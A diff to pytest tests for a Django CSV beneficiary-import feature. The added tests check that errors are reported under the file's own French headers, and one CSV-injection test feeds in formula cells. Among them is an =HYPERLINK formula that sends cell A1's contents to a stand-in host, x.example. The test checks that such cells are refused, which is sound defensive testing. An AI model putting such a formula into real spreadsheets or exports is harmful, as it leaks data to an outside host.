@@ -84,7 +84,7 @@ def test_a_name_longer_than_its_field_is_refused_not_cut(
     )
     assert_refused_and_file_deleted(record)
     [error] = record.errors
-    assert (error["line"], error["column"]) == (2, "name") and "100000" in error["reason"]
+    assert (error["line"], error["column"]) == (2, "nom") and "100000" in error["reason"]
 
 
 def test_a_nul_byte_is_refused_with_its_line(
@@ -93,7 +93,7 @@ def test_a_nul_byte_is_refused_with_its_line(
     record = upload(commission_client, project, f"{HEADER}{GOOD}communauté;Awa\x00;F;18-24;X\n", eager_tasks)
     assert_refused_and_file_deleted(record)
     [error] = record.errors
-    assert (error["line"], error["column"]) == (3, "name") and "U+0000" in error["reason"]
+    assert (error["line"], error["column"]) == (3, "nom") and "U+0000" in error["reason"]
 
 
 def test_errors_are_capped_with_their_total_paged_and_downloadable(
@@ -103,7 +103,7 @@ def test_errors_are_capped_with_their_total_paged_and_downloadable(
     assert_refused_and_file_deleted(record)
     assert len(record.errors) == 1000 and record.error_count == 5000
     page = commission_client.get(reverse("cvr:import-detail", args=[record.pk])).content.decode()
-    assert page.count("<td>name</td>") == 50 and "?page=2" in page
+    assert page.count("<td>nom</td>") == 50 and "?page=2" in page
     counted = digits(page[page.index('data-testid="error-count"') :].split("</p>")[0])
     assert "5000" in counted and "1000" in counted
     report = commission_client.get(reverse("cvr:import-errors", args=[record.pk])).content.decode()
@@ -135,3 +135,64 @@ def test_an_unexpected_failure_ends_the_job_failed_and_deletes_the_file(
     assert record.status == BeneficiaryImport.Status.FAILED and record.message
     assert record.job.status == Job.Status.FAILED and record.job.finished_at
     assert not record.file and not stored_files(Path(settings.MEDIA_ROOT))
+
+
+FULL_HEADER = "Type;Numéro d'enregistrement;Nom et prénom;Sexe;Tranche d'âge;Village;Jeune à risque\n"
+
+
+def test_errors_name_the_files_own_headers_never_internal_codes(
+    commission_client: Client, project: Project, eager_tasks: Any
+) -> None:
+    rows = (
+        "inconnu;;Awa;F;18-24;Ansongo;non\n"  # unknown type
+        "communauté;;;F;18-24;Ansongo;non\n"  # a community member without a name
+        "communauté;;Awa;X;18-24;Ansongo;non\n"  # unknown sex
+        "communauté;;Awa;F;12;Ansongo;non\n"  # unknown age band
+        "ex-combattant;GAO-9999999-9;;;18-24;;\n"  # nobody registered under that number
+    )
+    record = upload(commission_client, project, FULL_HEADER + rows, eager_tasks)
+    assert_refused_and_file_deleted(record)
+    assert [(e["line"], e["column"]) for e in record.errors] == [
+        (2, "Type"),
+        (3, "Nom et prénom"),
+        (4, "Sexe"),
+        (5, "Tranche d'âge"),
+        (6, "Numéro d'enregistrement"),
+    ]
+    page = commission_client.get(reverse("cvr:import-detail", args=[record.pk])).content.decode()
+    assert "<td>Tranche d&#x27;âge</td>" in page and "Nom et prénom" in page
+    for code in ("age_band", "registration_number", "family_name", ">kind<", ">type<", ">name<", ">sex<"):
+        assert code not in page
+    report = commission_client.get(reverse("cvr:import-errors", args=[record.pk])).content.decode()
+    assert "Tranche d'âge" in report and "age_band" not in report
+
+
+def test_a_column_the_file_lacks_is_named_by_the_header_it_should_have(
+    commission_client: Client, project: Project, eager_tasks: Any
+) -> None:
+    record = upload(commission_client, project, "type;nom;sexe\ncommunauté;Awa;F\n", eager_tasks)
+    [error] = record.errors
+    assert (error["line"], error["column"]) == (2, "Tranche d'âge")
+
+
+@pytest.mark.parametrize("formula", ["=1+1", '=HYPERLINK("http://x.example/?q="&A1,"Cliquez")', "@SUM(A1)"])
+def test_a_formula_cell_is_one_error_named_by_the_files_header(
+    commission_client: Client, project: Project, eager_tasks: Any, formula: str
+) -> None:
+    """CSV injection: a formula in any column is refused once, under the column's own header, and
+    nothing else is said of that cell (no "unknown age band", no "no registered person")."""
+    cell = '"' + formula.replace('"', '""') + '"'
+    good = ["communauté", "", "Awa", "F", "18-24", "Ansongo", "oui"]
+    rows = []
+    for i in range(len(good)):
+        cells = list(good)
+        if i == 1:  # a registration number is read for an ex-combatant
+            cells = ["ex-combattant", "", "", "", "18-24", "", ""]
+        cells[i] = cell
+        rows.append(";".join(cells) + "\n")
+    record = upload(commission_client, project, FULL_HEADER + "".join(rows), eager_tasks)
+    assert_refused_and_file_deleted(record)
+    headers = FULL_HEADER.strip().split(";")
+    assert [(e["line"], e["column"]) for e in record.errors] == [(i + 2, h) for i, h in enumerate(headers)]
+    assert record.error_count == len(headers)
+    assert all("formule" in e["reason"] for e in record.errors), record.errors
